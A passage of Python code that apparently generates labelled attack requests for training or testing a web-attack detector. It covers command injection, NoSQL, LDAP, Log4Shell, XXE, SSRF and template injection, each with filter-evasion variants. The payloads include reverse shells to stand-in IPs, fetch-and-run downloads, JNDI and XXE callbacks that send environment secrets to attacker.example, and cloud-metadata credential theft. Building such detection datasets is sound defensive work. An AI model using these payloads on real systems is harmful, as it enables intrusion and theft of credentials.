        S("query", "127.0.0.1 & type C:\\Windows\\win.ini"),
        S("form", "a.txt | powershell -NoP -NonI -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA"),
        S("query", "x & certutil -urlcache -split -f http://203.0.113.7/a.exe %TEMP%\\a.exe"),
        S("header", "() { :; }; /bin/bash -c 'cat /etc/passwd'", hname="User-Agent"),
        S("header", "() { ignored; }; echo; /usr/bin/id", hname="Referer"),
        S("cookie", "UTC; rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.9 4444 >/tmp/f"),
        S(
            "multipart",
            "clip.mp4;curl http://203.0.113.7/s|sh;.mp4",
            name="file",
            filename="PAYLOAD",
            fctype="video/mp4",
        ),
        S("multipart", "-vf scale=320:240; id > /var/www/html/o.txt", name="options"),
        S("path", "repo;id", enc="strict"),
        S("json", "100x100 -write /var/www/html/x.php"),
        S("query", "| python3 -c 'import os;os.system(\"id\")'"),
        S("header", "1.2.3.4;$(id)", hname="X-Forwarded-For"),
        # ---- evasions
        S("query", ";cat${IFS}/etc/passwd", True),
        S("json", ";{cat,/etc/passwd}", True),
        S("query", ";w'h'o'am'i", True),
        S("form", '|w"h"oami', True),
        S("query", ";/???/c?t /e??/p??swd", True),
        S("query", ";/bin/ca\\t /etc/pa\\sswd", True),
        S("json", "$(echo${IFS}aWQ=|base64${IFS}-d|sh)", True),
        S("query", ";a=c;b=at;$a$b /etc/passwd", True),
        S("query", "127.0.0.1\nid", True, enc="strict"),
        S("form", "x;cat$IFS$9/etc/passwd", True),
        S("query", ";$(printf '\\x69\\x64')", True),
        S("query", ";c\\at</etc/passwd", True, enc="full"),
        S("json", ";who$()ami", True),
        S("query", "&&${PATH:0:1}bin${PATH:0:1}cat ${PATH:0:1}etc${PATH:0:1}passwd", True),
        S("form", 'x & cmd.exe /c "who^ami"', True),
        S("query", ";$(rev<<<'dwssap/cte/ tac')", True),
        S("json", "\u003bid", True, jmode="u_all"),
        S("cookie", "x;tail$IFS-n1$IFS/etc/passwd", True, enc="mixed"),
        S("query", "|/usr/bin/i[d]", True, enc="double"),
        S("form", "a\x0a/bin/sh\x09-c\x09id", True),
    ]
    run("cmdi", ctx, specs)


@gen
def gen_nosqli():
    ctx = {
        "json": [
            {"path": "/api/auth/login", "obj": {"username": "admin", "password": MARK}},
            {"path": "/api/users/find", "obj": {"filter": {"email": MARK}, "limit": 10}},
            {"path": "/api/v1/products/search", "obj": {"query": {"category": "books", "price": MARK}}},
            {"path": "/api/session", "obj": {"user": MARK, "pass": "x"}},
        ],
        "query_key": [
            {"path": "/api/login", "others": [("username", "admin")]},
            {"path": "/api/users", "others": [("limit", "50")]},
        ],
        "form": [{"path": "/login", "others": [("username", "admin")]}, {"path": "/reset-password"}],
        "query": [
            {"name": "q", "path": "/api/search"},
            {"name": "filter", "path": "/api/v1/items"},
            {"name": "where", "path": "/api/collections/orders"},
        ],
        "cookie": [{"name": "prefs", "cookies": ["sid=c0ffee11"]}],
        "header": [{"hname": "X-Filter"}],
        "multipart": [{"name": "criteria", "path": "/api/export"}],
    }
    specs = [
        S("json", '{"$ne":null}', raw=True),
        S("json", '{"$gt":""}', raw=True),
        S("json", '{"$regex":"^adm"}', raw=True),
        S("json", '{"$regex":".*","$options":"si"}', raw=True),
        S("json", '{"$where":"sleep(5000) || true"}', raw=True),
        S("json", '{"$where":"this.password.match(/^a.*/)"}', raw=True),
        S("json", '{"$expr":{"$eq":[1,1]}}', raw=True),
        S("json", '{"$function":{"body":"function(){ return true }","args":[],"lang":"js"}}', raw=True),
        S("json", '{"$in":["admin","root","administrator"]}', raw=True),
        S("json", '{"$nin":[]}', raw=True),
        S("json", '{"$exists":true}', raw=True),
        S("json", '{"$lt":9999999}', raw=True),
        S(
            "json",
            '[{"$lookup":{"from":"users","localField":"owner","foreignField":"_id","as":"leak"}}]',
            raw=True,
            path="/api/reports/aggregate",
            obj={"collection": "orders", "pipeline": MARK},
        ),
        S(
            "json",
            '[{"$or":[{"role":"admin"},{"_id":{"$exists":true}}]}]',
            raw=True,
            path="/api/users/query",
            obj={"$and": MARK},
        ),
        S("json", "' || '1'=='1", path="/api/products/where", obj={"name": MARK}),
        S("json", "'; return true; var x='", path="/api/legacy/find", obj={"username": MARK}),
        S("query", "admin' && this.password.match(/.*/)//"),
        S("query", "1; sleep(5000)"),
        S("query", "this.constructor.constructor('return process')().exit()"),
        S("query", '{"$where":"function(){return this.role==\'admin\'}"}', name="filter"),
        S("query_key", "password[$ne]=1", enc="raw"),
        S("query_key", "username[$regex]=^a.*", enc="raw"),
        S("query_key", "password[$gt]=", enc="raw"),
        S("query_key", "email[$exists]=true", enc="raw"),
        S("query_key", "age[$where]=1;sleep(3000)", enc="raw", others=[("sort", "name")]),
        S("form", "password[$ne]=wrong", formkv=True),
        S("form", "token[$regex]=.*", formkv=True),
        S("cookie", '{"user":{"$ne":null}}'),
        S("header", '{"owner":{"$ne":""}}', hname="X-Filter"),
        S("multipart", '{"createdAt":{"$gt":""},"$where":"1==1"}'),
        # ---- evasions
        S("json", '{"$ne":null}', True, raw=True, rawwire='{"\\u0024ne":null}'),
        S("json", '{"$regex":"^a"}', True, raw=True, rawwire='{"\\u0024\\u0072egex":"^a"}'),
        S("json", '{"$where":"return true"}', True, raw=True, rawwire='{"\\u0024where":"\\u0072eturn\\u0020true"}'),
        S("query_key", "password[$ne]=1", True, enc="strict"),
        S("query_key", "username[$regex]=^adm", True, enc="mixed"),
        S("form", "password[$gt]=", True, formkv=True, enc="full"),
        S("query_key", "login[%24ne]=x", True, enc="double"),
        S("json", "{\"$where\":\"this['pass'+'word'].length>0\"}", True, raw=True),
        S("json", '{"$where":"eval(String.fromCharCode(115,108,101,101,112,40,53,48,48,48,41))"}', True, raw=True),
        S("query", "';\treturn\t1==1;\tvar\ta='", True, enc="full"),
    ]
    run("nosqli", ctx, specs)


@gen
def gen_ldapi():
    ctx = {
        "query": [
            {"name": "user", "path": "/directory/lookup"},
            {"name": "cn", "path": "/api/ldap/search"},
            {"name": "mail", "path": "/people", "others": [("ou", "staff")]},
        ],
        "form": [
            {"name": "username", "path": "/sso/login", "others": [("password", "P4ssword!")]},
            {"name": "uid", "path": "/admin/users/lookup"},
        ],
        "json": [
            {"name": "login", "path": "/api/auth/ldap", "extra": {"password": "x"}},
            {"name": "group", "path": "/api/groups/members"},
        ],
        "cookie": [{"name": "uid", "cookies": ["lang=de"]}],
        "header": [{"hname": "X-Remote-User"}, {"hname": "X-Forwarded-User"}],
        "multipart": [{"name": "search", "path": "/api/contacts/import"}],
        "path": [{"path": "/api/directory/users/{}"}],
    }
    specs = [
        S("query", "*)(uid=*))(|(uid=*"),
        S("form", "admin)(&)"),
        S("form", "*)(|(objectClass=*)"),
        S("query", "admin)(|(userPassword=*))"),
        S("json", "*)(userPassword=*)"),
        S("query", "x*)(|(cn=*"),
        S("form", "admin*)((|userpassword=*)"),
        S("query", ")(cn=*))(|(cn=*"),
        S("json", "*)(&(objectClass=user)(memberOf=CN=Domain Admins,CN=Users,DC=corp,DC=local))"),
        S("query", "*)(|(uid=*)(cn=*))"),
        S("form", "admin)(!(&(1=0"),
        S("query", "*)(mail=*@*"),
        S("json", "jdoe)(description=*"),
        S("query", "a*)(userPassword=a*"),
        S("query", "*)(uid=*))(&(uid=*"),
        S("header", "admin)(|(objectClass=*)", hname="X-Remote-User"),
        S("cookie", "*)(|(memberOf=cn=admins,ou=groups,dc=example,dc=com)"),
        S("multipart", "(|(sn=*)(givenName=*)(telephoneNumber=*))"),
        S("path", "*)(uid=*", enc="strict"),
        S("json", "*))(|(objectClass=person)(objectClass=*", name="group"),
        S("form", "jdoe,ou=admins,dc=corp,dc=local", name="uid"),
        S("query", "*)(sAMAccountName=*)(|(pwdLastSet=*"),
        S("header", "*)(ou=*", hname="X-Forwarded-User"),
        S("json", "admin)(|(msDS-AllowedToDelegateTo=*)"),
        # ---- evasions
        S("query", "*)(uid=*))\x00", True),
        S("query", "*)(|(objectClass=*)", True, enc="full"),
        S("form", "admin)(|(password=*))", True, enc="mixed"),
        S("json", "*)(uid=*))(|(uid=*", True, jmode="u_some"),
        S("query", "*)(OBJECTCLASS=*)(|(CN=*", True),
        S("query", "*)(uid=*))(|(uid=*", True, enc="double"),
        S("cookie", "admin)(&)", True, enc="double"),
        S("json", "\\2a)(uid=\\2a))(|(uid=\\2a", True),
        S("form", "admin)(|(cn=adm*)(cn=*min", True),
        S("query", "admin\x00)(|(objectClass=*", True, enc="mixed"),
    ]
    run("ldapi", ctx, specs)


@gen
def gen_log4shell():
    ctx = {
        "header": [
            {"hname": "User-Agent"},
            {"hname": "X-Api-Version"},
            {"hname": "X-Forwarded-For"},
            {"hname": "Referer"},
            {"hname": "X-Request-Id"},
            {"hname": "Authorization"},
        ],
        "query": [
            {"name": "q", "path": "/search"},
            {"name": "username", "path": "/login"},
            {"name": "lang", "path": "/app", "others": [("v", "2")]},
        ],
        "form": [
            {"name": "username", "path": "/j_security_check", "others": [("j_password", "x")]},
            {"name": "email", "path": "/newsletter/subscribe"},
        ],
        "json": [
            {"name": "deviceName", "path": "/api/devices/register", "extra": {"os": "android"}},
            {"name": "comment", "path": "/api/feedback"},
        ],
        "cookie": [{"name": "JSESSIONID", "cookies": []}, {"name": "remember_me", "cookies": ["locale=en"]}],
        "path": [{"path": "/api/v1/users/{}"}, {"path": "/s/{}"}],
        "multipart": [{"name": "title", "path": "/api/documents"}],
    }
    specs = [
        S("header", "${jndi:ldap://203.0.113.5:1389/Exploit}", hname="User-Agent"),
        S("header", "${jndi:rmi://attacker.example:1099/obj}", hname="X-Api-Version"),
        S("header", "${jndi:dns://oob.attacker.example/a}", hname="X-Forwarded-For"),
        S("query", "${jndi:ldaps://attacker.example:636/a}"),
        S("form", "${jndi:iiop://attacker.example:900/a}"),
        S("json", "${jndi:corba:iiop://attacker.example/a}"),
        S("query", "${jndi:nds://attacker.example/a}"),
        S("header", "${jndi:nis://attacker.example/a}", hname="Referer"),
        S("header", "${jndi:http://attacker.example/a}", hname="X-Request-Id"),
        S("header", "${jndi:ldap://${env:USER}.oob.attacker.example/a}", hname="User-Agent"),
        S("json", "${jndi:ldap://${sys:java.version}.x.oob.attacker.example/a}"),
        S("cookie", "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.oob.attacker.example}"),
        S("path", "${jndi:ldap://203.0.113.5/o}", enc="strict"),
        S("multipart", "${jndi:ldap://127.0.0.1#evil.attacker.example:1389/a}"),
        S("header", "Bearer ${jndi:ldap://attacker.example/x}", hname="Authorization"),
        S("form", "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//attacker.example/a}"),
        S("query", "${env:AWS_ACCESS_KEY_ID}:${env:AWS_SECRET_ACCESS_KEY}"),
        S("json", "${jndi:ldap://attacker.example:1389/${hostName}}"),
        # ---- evasions
        S("header", "${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://attacker.example/a}", True, hname="User-Agent"),
        S(
            "header",
            "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://attacker.example/a}",
            True,
            hname="X-Api-Version",
        ),
        S("query", "${j${k8s:k5:-ND}i:ldap://attacker.example/a}", True),
        S("json", "${${upper:j}${upper:n}${upper:d}${upper:i}:ldap://attacker.example/a}", True),
        S("header", "${jndi:${lower:l}${lower:d}${lower:a}${lower:p}://attacker.example/a}", True, hname="Referer"),
        S("cookie", "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://attacker.example/a}", True),
        S("query", "${jn${lower:d}i:l${lower:d}ap://attacker.example/a}", True, enc="full"),
        S("form", "${${lower:${lower:jndi}}:${lower:rmi}://attacker.example/a}", True),
        S("json", "${jndi:ldap://attacker.example/a}", True, jmode="u_some"),
        S("query", "${jndi:ldap://attacker.example/a}", True, enc="double"),
        S(
            "header",
            "${${env:ENV_NAME:-j}ndi${env:ENV_NAME:-:}${env:ENV_NAME:-l}dap${env:ENV_NAME:-:}//attacker.example/a}",
            True,
            hname="X-Forwarded-For",
        ),
        S("header", "${jnd${sys:SYS_NAME:-i}:ldap://attacker.example/a}", True, hname="User-Agent"),
        S("query", "${j${main:\\k5:-Nd}i${spring:k5:-:}ldap://attacker.example/a}", True, enc="mixed"),
        S("multipart", "${${::-j}ndi:dns://attacker.example/z}", True),
        S("json", "$\uff5bjndi:ldap://attacker.example/a\uff5d", True),
        S("header", "${jndi:ldap://[::ffff:cb00:7105]:1389/a}", True, hname="X-Api-Version"),
        S("form", "${${lower:J}${upper:n}${lower:D}${upper:i}:${lower:L}dap://attacker.example/a}", True),
        S("query", "${\t jndi:ldap://attacker.example/a}", True, enc="strict"),
    ]
    run("log4shell", ctx, specs)


XXE_DOCS = [
    (
        '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE foo [\n  <!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>\n<order><id>&xxe;</id></order>',
        False,
    ),
    (
        '<?xml version="1.0"?>\n<!DOCTYPE data [<!ENTITY win SYSTEM "file:///c:/windows/win.ini">]>\n<data><name>&win;</name></data>',
        False,
    ),
    (
        '<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY meta SYSTEM "http://169.254.169.254/latest/meta-data/iam/security-credentials/">]>\n<r><u>&meta;</u></r>',
        False,
    ),
    (
        '<?xml version="1.0"?>\n<!DOCTYPE r [\n<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd">\n%remote;\n%init;\n]>\n<r/>',
        False,
    ),
    (
        '<?xml version="1.0"?>\n<!DOCTYPE r [\n<!ENTITY % file SYSTEM "file:///etc/hostname">\n<!ENTITY % dtd SYSTEM "http://attacker.example/exfil.dtd">\n%dtd;\n%send;\n]>\n<r>x</r>',
        False,
    ),
    (
        '<?xml version="1.0"?>\n<!DOCTYPE message [\n<!ENTITY % local_dtd SYSTEM "file:///usr/share/yelp/dtd/docbookx.dtd">\n<!ENTITY % ISOamso \'\n<!ENTITY &#x25; file SYSTEM "file:///etc/passwd">\n<!ENTITY &#x25; eval "<!ENTITY &#x26;#x25; error SYSTEM &#x27;file:///nonexistent/&#x25;file;&#x27;>">\n&#x25;eval;\n&#x25;error;\n\'>\n%local_dtd;\n]>\n<message>x</message>',
        False,
    ),
    (
        '<?xml version="1.0"?>\n<!DOCTYPE foo [<!ENTITY src SYSTEM "php://filter/convert.base64-encode/resource=/var/www/html/config.php">]>\n<foo>&src;</foo>',
        False,
    ),
    ('<?xml version="1.0"?>\n<!DOCTYPE foo [<!ENTITY cmd SYSTEM "expect://id">]>\n<foo>&cmd;</foo>', False),
    (
        '<?xml version="1.0"?>\n<!DOCTYPE lolz [\n<!ENTITY lol "lol">\n<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">\n<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">\n<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">\n]>\n<lolz>&lol4;</lolz>',
        False,
    ),
    (
        '<?xml version="1.0" encoding="utf-8"?>\n<!DOCTYPE soap:Envelope [<!ENTITY x SYSTEM "file:///etc/shadow">]>\n<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><GetUser><id>&x;</id></GetUser></soap:Body></soap:Envelope>',
        False,
    ),
    ('<?xml version="1.0"?>\n<!DOCTYPE foo SYSTEM "http://attacker.example/external.dtd">\n<foo>&ent;</foo>', False),
    (
        '<?xml version="1.0"?>\n<!DOCTYPE foo [<!ENTITY g SYSTEM "gopher://127.0.0.1:6379/_INFO">]>\n<foo>&g;</foo>',
        False,
    ),
    (
        '<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY j SYSTEM "jar:http://attacker.example/payload.jar!/x.txt">]>\n<r>&j;</r>',
        False,
    ),
    ('<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY n SYSTEM "netdoc:///etc/passwd">]>\n<r>&n;</r>', False),
    (
        '<?xml version="1.0"?>\n<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///proc/self/environ">]>\n<rss version="2.0"><channel><title>&x;</title><item><title>t</title></item></channel></rss>',
        False,
    ),
    (
        '<?xml version="1.0"?>\n<!DOCTYPE foo [<!ENTITY % xxe SYSTEM "http://oob.attacker.example/ping"> %xxe; ]>\n<foo/>',
        False,
    ),
    (
        '<?xml version="1.0"?>\n<!DOCTYPE x PUBLIC "-//ACME//DTD Order 1.0//EN" "http://attacker.example/order.dtd">\n<x>&a;</x>',
        False,
    ),
    (
        '<?xml version="1.0"?>\n<!DOCTYPE r [\n<!ENTITY % start "<![CDATA[">\n<!ENTITY % stuff SYSTEM "file:///var/www/html/.env">\n<!ENTITY % end "]]>">\n<!ENTITY % dtd SYSTEM "http://attacker.example/join.dtd">\n%dtd;\n]>\n<r>&all;</r>',
        False,
    ),
    # evasions
    (
        '<?xml version="1.0" encoding="UTF-7"?>\n+ADwAIQ-DOCTYPE foo +AFs-+ADwAIQ-ENTITY xxe SYSTEM +ACI-file:///etc/passwd+ACIAPgBdAD4-\n+ADw-foo+AD4AJg-xxe+ADsAPA-/foo+AD4-',
        True,
    ),
    ("<?xml version='1.0'?><!DOCTYPE a[<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>", True),
    (
        '<?xml version="1.0"?>\n<!DOCTYPE r [\n<!ENTITY % a "<!ENTITY &#x25; b SYSTEM \'http://attacker.example/x.dtd\'>">\n%a;\n%b;\n]>\n<r/>',
        True,
    ),
    (
        '<?xml version="1.0"?>\n<!DOCTYPE\tfoo\t[\t<!ENTITY\txxe\tSYSTEM\t"fi&#x6c;e:///etc/passwd"\t>\t]>\n<foo>&xxe;</foo>',
        True,
    ),
    ('<?xml  version = "1.0" ?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:/etc/passwd">]><foo>&xxe;</foo>', True),
    (
        '<?xml version="1.0"?>\n<!DOCTYPE foo [<!ENTITY xxe SYSTEM "http://2852039166/latest/meta-data/">]>\n<foo>&xxe;</foo>',
        True,
    ),
]

XINCLUDE = [
    '<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></foo>',
    '<root xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="http://169.254.169.254/latest/meta-data/" parse="text"/></root>',
]

SVG_XXE = [
    '<?xml version="1.0" standalone="yes"?>\n<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/hostname">]>\n<svg width="128px" height="128px" xmlns="http://www.w3.org/2000/svg" version="1.1"><text font-size="16" x="0" y="16">&xxe;</text></svg>',
    '<?xml version="1.0"?>\n<!DOCTYPE svg [<!ENTITY % r SYSTEM "http://attacker.example/svg.dtd"> %r;]>\n<svg xmlns="http://www.w3.org/2000/svg"><text>&exfil;</text></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xi="http://www.w3.org/2001/XInclude"><text><xi:include href="file:///etc/passwd" parse="text"/></text></svg>',
]


@gen
def gen_xxe():
    xml_paths = [
        "/api/orders/import",
        "/soap/UserService",
        "/api/v1/invoices",
        "/feeds/import",
        "/xmlrpc.php",
        "/api/saml/acs",
        "/ws/inventory",
    ]
    for doc, hard in XXE_DOCS:
        attack("xxe", "xml", doc, hard, path=pick(xml_paths))
    # XXE smuggled through non-XML containers
    d0 = XXE_DOCS[0][0]
    attack("xxe", "json", d0, False, path="/api/convert/xml-to-json", obj={"format": "xml", "data": MARK})
    attack(
        "xxe", "json", XXE_DOCS[3][0], True, path="/api/import", obj={"type": "xml", "content": MARK}, jmode="u_some"
    )
    attack("xxe", "form", XXE_DOCS[2][0], False, path="/services/parse", name="xml")
    attack("xxe", "form", d0, True, path="/services/parse", name="payload", enc="full")
    attack(
        "xxe",
        "query",
        '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
        False,
        path="/api/validate",
        name="xml",
    )
    attack("xxe", "xml", XINCLUDE[0], False, path="/api/orders/import")
    attack(
        "xxe",
        "json",
        XINCLUDE[1],
        False,
        path="/api/products/description",
        obj={"sku": "A-100", "descriptionXml": MARK},
    )
    for i, svg in enumerate(SVG_XXE):
        attack(
            "xxe",
            "multipart",
            svg,
            i == 2,
            path=pick(["/profile/avatar", "/api/media/upload"]),
            name="file",
            mp_as_file=True,
            filename=pick(["avatar.svg", "logo.svg", "icon.svg"]),
            fctype="image/svg+xml",
        )
    attack(
        "xxe",
        "multipart",
        d0.replace("order", "office"),
        False,
        path="/api/documents/convert",
        name="document",
        mp_as_file=True,
        filename="word/document.xml",
        fctype="application/xml",
    )
    attack(
        "xxe",
        "xml",
        '<?xml version="1.0"?>\n<!DOCTYPE methodCall [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n<methodCall><methodName>pingback.ping</methodName><params><param><value><string>&x;</string></value></param></params></methodCall>',
        False,
        path="/xmlrpc.php",
        ctype="text/xml",
    )
    attack(
        "xxe",
        "xml",
        '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE samlp:Response [<!ENTITY s SYSTEM "http://oob.attacker.example/saml">]>\n<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_1"><saml:Issuer xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">&s;</saml:Issuer></samlp:Response>',
        False,
        path="/api/saml/acs",
    )


def ip_dec(a, b, c, d):
    return str((a << 24) | (b << 16) | (c << 8) | d)


@gen
def gen_ssrf():
    ctx = {
        "query": [
            {"name": "url", "path": "/api/preview"},
            {"name": "image", "path": "/proxy/image"},
            {"name": "feed", "path": "/tools/rss"},
            {"name": "target", "path": "/api/v1/health/probe"},
            {"name": "src", "path": "/thumbnail", "others": [("w", "320")]},
        ],
        "json": [
            {"name": "webhookUrl", "path": "/api/integrations/webhooks", "extra": {"events": ["push"], "active": True}},
            {"name": "avatarUrl", "path": "/api/me/avatar"},
            {"name": "url", "path": "/api/link-preview"},
        ],
        "form": [
            {"name": "callback", "path": "/oauth/register", "others": [("client_name", "demo")]},
            {"name": "import_url", "path": "/admin/import"},
        ],
        "header": [{"hname": "X-Callback-Url"}, {"hname": "X-Forwarded-Host"}, {"hname": "Referer"}],
        "multipart": [{"name": "remote_url", "path": "/api/media/fetch"}],
        "cookie": [{"name": "return_to", "cookies": []}],
        "path": [{"path": "/proxy/{}"}, {"path": "/fetch/{}"}],
    }
    md = "/latest/meta-data/iam/security-credentials/"
    specs = [
        S("query", "http://169.254.169.254" + md),
        S("json", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"),
        S("query", "http://169.254.169.254/metadata/instance?api-version=2021-02-01"),
        S("form", "http://100.100.100.200/latest/meta-data/"),
        S("json", "http://[fd00:ec2::254]/latest/meta-data/"),
        S("query", "http://127.0.0.1:6379/"),
        S("json", "http://localhost:2375/containers/json"),
        S("query", "http://127.0.0.1:8500/v1/agent/self"),
        S("form", "http://localhost:9200/_cat/indices?v"),
        S("query", "http://10.0.0.5:8080/manager/html"),
        S("json", "https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets"),
        S("query", "http://127.0.0.1:2379/v2/keys/?recursive=true"),
        S("query", "http://169.254.170.2/v2/credentials/"),
        S("header", "http://169.254.169.254/latest/user-data", hname="X-Callback-Url"),
        S("multipart", "http://192.168.0.1/cgi-bin/luci"),
        S("query", "file:///etc/passwd"),
        S("json", "dict://127.0.0.1:11211/stats"),
        S(
            "query",
            "gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A%2A3%0D%0A%243%0D%0Aset%0D%0A%241%0D%0A1%0D%0A%2434%0D%0A%0A%0A%2A/1%20%2A%20%2A%20%2A%20%2A%20bash%20-i%0A%0A%0D%0A",
            enc="strict",
        ),
        S("form", "ldap://127.0.0.1:389/dc=corp"),
        S("path", "http://169.254.169.254/latest/meta-data/", enc="keep_slash"),
        S("cookie", "http://127.0.0.1:8080/actuator/env"),
        S("json", "http://metadata/computeMetadata/v1/project/project-id"),
        # ---- evasions: alternative notations / parser confusion
        S("query", "http://" + ip_dec(169, 254, 169, 254) + md, True),
        S("json", "http://0xA9FEA9FE/latest/meta-data/", True),
        S("query", "http://0251.0376.0251.0376/latest/meta-data/", True),
        S("form", "http://0xa9.254.0251.0xfe/latest/meta-data/", True),
        S("query", "http://[::ffff:169.254.169.254]/latest/meta-data/", True),
        S("json", "http://[::ffff:a9fe:a9fe]/latest/meta-data/", True),
        S("query", "http://[::1]:8080/admin", True),
        S("query", "http://0/server-status", True),
        S("json", "http://127.1:9000/", True),
        S("query", "http://" + ip_dec(127, 0, 0, 1) + ":8080/admin", True),
        S("query", "http://169.254.169.254.nip.io/latest/meta-data/", True),
        S("json", "http://7f000001.a9fea9fe.rbndr.us/latest/meta-data/", True),
        S("query", "http://trusted.example.com@169.254.169.254/latest/meta-data/", True),
        S("form", "http://169.254.169.254#@trusted.example.com/", True),
        S(
            "query",
            "http://\u2460\u2465\u2468.\u2461\u2464\u2463.\u2460\u2465\u2468.\u2461\u2464\u2463/latest/meta-data/",
            True,
        ),
        S("json", "http://127\u30020\u30020\u30021:6379/", True),
        S("query", "http://[0:0:0:0:0:ffff:127.0.0.1]:8500/v1/kv/?recurse", True),
        S("query", "http://169.254.169.254/latest/meta-data/", True, enc="double"),
        S("header", "LOCALHOST:22", True, hname="X-Forwarded-Host"),
        S("json", "http://127.0.0.1:80\\@trusted.example.com/", True),
        S("query", "http://0.0.0.0:6379/", True, enc="full"),
        S("json", "http:\u002f\u002f169.254.169.254/latest/meta-data/", True, jmode="u_some"),
    ]
    run("ssrf", ctx, specs)


@gen
def gen_ssti():
    ctx = {
        "query": [
            {"name": "name", "path": "/hello"},
            {"name": "template", "path": "/preview"},
            {"name": "q", "path": "/search"},
            {"name": "greeting", "path": "/cards/render", "others": [("id", "12")]},
        ],
        "form": [
            {"name": "subject", "path": "/admin/email-templates/save", "others": [("tpl_id", "3")]},
            {"name": "nickname", "path": "/profile"},
        ],
        "json": [
            {"name": "body", "path": "/api/notifications/templates", "extra": {"channel": "email"}},
            {"name": "displayName", "path": "/api/v1/users/me"},
            {"name": "message", "path": "/api/invoice/preview", "extra": {"invoiceId": 991}},
        ],
        "cookie": [{"name": "greeting", "cookies": ["sid=ab12"]}],
        "header": [{"hname": "User-Agent"}, {"hname": "Referer"}],
        "multipart": [{"name": "template", "path": "/api/reports/custom"}],
        "path": [{"path": "/page/{}"}, {"path": "/error/{}"}],
    }
    specs = [
        # Jinja2
        S("query", "{{7*7}}"),
        S("query", "{{config.items()}}"),
        S("form", "{{''.__class__.__mro__[1].__subclasses__()}}"),
        S("json", "{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
        S("query", "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}"),
        S(
            "json",
            "{% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}{{x()._module.__builtins__['__import__']('os').popen('id').read()}}{% endif %}{% endfor %}",
        ),
        S("form", "{{lipsum.__globals__['os'].popen('cat /etc/passwd').read()}}"),
        # Twig
        S("query", "{{_self.env.registerUndefinedFilterCallback('exec')}}{{_self.env.getFilter('id')}}"),
        S("json", "{{['id']|filter('system')}}"),
        S("form", "{{['cat /etc/passwd']|map('passthru')|join}}"),
        # Freemarker
        S("json", '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}'),
        S("query", '${"freemarker.template.utility.Execute"?new()("whoami")}'),
        # Velocity
        S(
            "multipart",
            "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))#set($ex=$rt.getRuntime().exec('id'))$ex.waitFor()",
        ),
        # ERB
        S("query", "<%= 7*7 %>"),
        S("form", "<%= system('cat /etc/passwd') %>"),
        S("json", "<%= IO.popen('id').readlines() %>"),
        # Thymeleaf
        S("query", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
        S(
            "path",
            "__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec('id').getInputStream()).next()}__::.x",
            enc="strict",
        ),
        # Handlebars
        S(
            "json",
            '{{#with "s" as |string|}}{{#with "e"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub "constructor")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push "return require(\'child_process\').execSync(\'id\');"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}',
        ),
        # Smarty
        S("query", "{system('id')}"),
        S("form", "{php}echo `id`;{/php}"),
        S(
            "json",
            "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['c']); ?>\",self::clearConfig())}",
        ),
        # Mako / Tornado / Nunjucks / Razor / Pug
        S("query", "${self.module.cache.util.os.system('id')}"),
        S("form", "<% import os; x=os.popen('id').read() %>${x}"),
        S("json", "{% import os %}{{os.popen('id').read()}}"),
        S(
            "json",
            "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
        ),
        S("form", '@(System.Diagnostics.Process.Start("cmd.exe","/c whoami"))'),
        S("query", "#{root.process.mainModule.require('child_process').execSync('id')}"),
        # Expression languages
        S("query", "#{T(java.lang.Runtime).getRuntime().exec('id')}"),
        S("header", "${T(java.lang.System).getenv()}", hname="User-Agent"),
        S("json", '${pageContext.request.getSession().setAttribute("role","admin")}'),
        S("form", "${''.getClass().forName('java.lang.Runtime').getMethods()[6].invoke(null).exec('id')}"),
